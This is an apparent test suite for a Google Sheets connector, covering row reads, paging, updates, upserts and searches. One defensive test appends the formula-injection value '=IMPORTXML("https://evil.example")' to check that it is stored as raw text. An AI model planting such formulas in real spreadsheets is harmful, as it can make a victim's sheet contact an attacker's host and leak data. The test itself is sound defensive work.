import { afterEach, describe, expect } from "bun:test";
import { judgedTests } from "../../test/connectors/maker/judged-tests.ts";
import { failureOf } from "../../test/connectors/run-action.ts";
import connector from "./definition.ts";
import type { Rows } from "./testing/grid.ts";
import { maker } from "./testing/maker.ts";
import { type OpenSheet, openSheet, place } from "./testing/open-sheet.ts";

const test = judgedTests(maker.description);
const { actions } = connector;
let sheet: OpenSheet;
const open = async (rows: Rows, rowCount?: number) => {
  sheet = await openSheet(rows, rowCount);
};
afterEach(() => sheet.close());

const orders = (): Rows => [
  ["Order", "Email", "Total"],
  ["1001", "ada@example.com", 25],
  ["1002", "bob@example.com", 30],
];

describe("rows by column name", () => {
  test("are read with numbers as numbers, and without the empty ones between them", async () => {
    await open([...orders(), [], ["1003", "", 7]]);
    expect((await sheet.run(actions.list_rows!, place)).rows).toEqual([
      { row: 2, values: { Order: "1001", Email: "ada@example.com", Total: 25 } },
      { row: 3, values: { Order: "1002", Email: "bob@example.com", Total: 30 } },
      { row: 5, values: { Order: "1003", Email: "", Total: 7 } },
    ]);
  });

  test("are read a thousand at a time, to the third page and the end of the sheet", async () => {
    const many = Array.from({ length: 2_500 }, (_, index) => [String(index), "", index]);
    await open([orders()[0]!, ...many]);
    const { rows, hasMore } = await sheet.run(actions.list_rows!, { ...place, limit: 2_400 });
    expect(rows).toHaveLength(2_400);
    expect(hasMore).toBe(true);
    const ranges = sheet.peer.calls.map(({ path }) => decodeURIComponent(path.split("/values/")[1] ?? ""));
    expect(ranges.slice(2)).toEqual(["'Orders'!2:1001", "'Orders'!1002:2001", "'Orders'!2002:2501"]);
  });

  test("of a nameless column, or of a second one of the same name, go by the column's letter", async () => {
    await open([
      ["Order", "", "Order"],
      ["1", "2", "3"],
    ]);
    expect((await sheet.run(actions.get_row!, { ...place, row: 2 })).values).toEqual({
      Order: "1",
      "Column B": "2",
      "Column C": "3",
    });
  });

  test("change only what is given; null empties a cell, lists are written as JSON", async () => {
    const rows = orders();
    await open(rows);
    await sheet.run(actions.update_row!, { ...place, row: 2, values: { Total: [1, 2], Email: null } });
    expect(rows[1]).toEqual(["1001", "", "[1,2]"]);
  });

  test("a column that is not there is refused, and what there is named", async () => {
    await open(orders());
    const failure = await failureOf(sheet.run(actions.append_row!, { ...place, values: { Totl: 1 } }));
    expect(failure).toMatchObject({ kind: "final", code: "no_column" });
    expect(failure.message).toContain('no column "Totl". It has "Order", "Email", "Total"');
  });

  test("an empty sheet says what is missing, and a sheet that is not there which there are", async () => {
    await open([]);
    expect(await failureOf(sheet.run(actions.list_rows!, place))).toMatchObject({ kind: "final", code: "no_header" });
    const failure = await failureOf(
      sheet.run(actions.delete_rows!, { spreadsheet: place.spreadsheet, sheet: "Oders", row: 2 }),
    );
    expect(failure.message).toContain('no sheet "Oders". It has "Orders"');
  });

  test("a text that begins with = stays a text unless the builder says otherwise", async () => {
    await open(orders());
    await sheet.run(actions.append_row!, { ...place, values: { Order: '=IMPORTXML("https://evil.example")' } });
    expect(sheet.peer.calls.at(-1)?.query).toMatchObject({ valueInputOption: "RAW" });
  });
});

describe("an action that calls itself repeatable", () => {
  test("upsert_row adds the row once, and changes it the second time", async () => {
    const rows = orders();
    await open(rows);
    const input = { ...place, column: "Order", key: "1003", values: { Total: 1 } };
    expect(await sheet.run(actions.upsert_row!, input)).toEqual({ row: 4, added: true });
    expect(await sheet.run(actions.upsert_row!, { ...input, values: { Total: 2 } })).toEqual({ row: 4, added: false });
    expect(rows.slice(3)).toEqual([["1003", "", 2]]);
  });

  test("upsert_row finds its row again also where Sheets reads what is typed", async () => {
    for (const key of ["007", "1-2", "=1+1", "TRUE", "ada@example.com", "25"]) {
      const rows = orders();
      await open(rows);
      const input = { ...place, column: "Order", key, values: { Total: 1 }, entered: "USER_ENTERED" };
      expect(await sheet.run(actions.upsert_row!, input)).toEqual({ row: 4, added: true });
      // As Sheets keeps it: an apostrophe says that it is text, what else looks like a number becomes one.
      const typed = String(rows[3]![0]);
      rows[3]![0] = typed.startsWith("'") ? typed.slice(1) : Number(typed);
      expect(await sheet.run(actions.upsert_row!, input)).toEqual({ row: 4, added: false });
      await sheet.close();
    }
  });

  test("upsert_row does not call itself so when it gives the row another key", async () => {
    const { effect } = await actions.upsert_row!();
    const effectOf = (values: object) =>
      (effect as (input: object) => string)({ column: "Order", key: "1003", values });
    expect([effectOf({}), effectOf({ Order: 1003 }), effectOf({ Order: null })]).toEqual([
      "upsert",
      "upsert",
      "upsert",
    ]);
    expect(effectOf({ Order: "1004" })).toBe("unsafe");
  });

  test("upsert_row looks for no empty value: it would find the first row that has none", async () => {
    await open([...orders(), ["", "eve@example.com", 1]]);
    const input = { ...place, column: "Order", key: " ", values: { Total: 9 } };
    expect(await failureOf(sheet.run(actions.upsert_row!, input))).toMatchObject({ code: "invalid_input" });
  });

  test("add_sheet gives the sheet that the first call has made", async () => {
    await open(orders());
    sheet.peer.answer("sheets.spreadsheets.batchUpdate", () => {
      const message = 'Invalid requests[0].addSheet: A sheet with the name "Orders" already exists.';
      return Response.json({ error: { code: 400, message, status: "INVALID_ARGUMENT" } }, { status: 400 });
    });
    const again = await sheet.run(actions.add_sheet!, { spreadsheet: place.spreadsheet, title: "Orders" });
    expect(again).toEqual({ sheetId: 7, title: "Orders", added: false });
  });
});

describe("rows are found", () => {
  for (const [match, value, found] of [
    ["equals", "30", [3]],
    ["equals", "3", []],
    ["contains", "3", [3]],
    ["starts_with", "2", [2]],
  ] as const)
    test(`by a total that ${match} ${value}`, async () => {
      await open(orders());
      const { rows } = await sheet.run(actions.find_rows!, { ...place, column: "Total", match, value });
      expect((rows as unknown as { row: number }[]).map(({ row }) => row)).toEqual([...found]);
    });
});
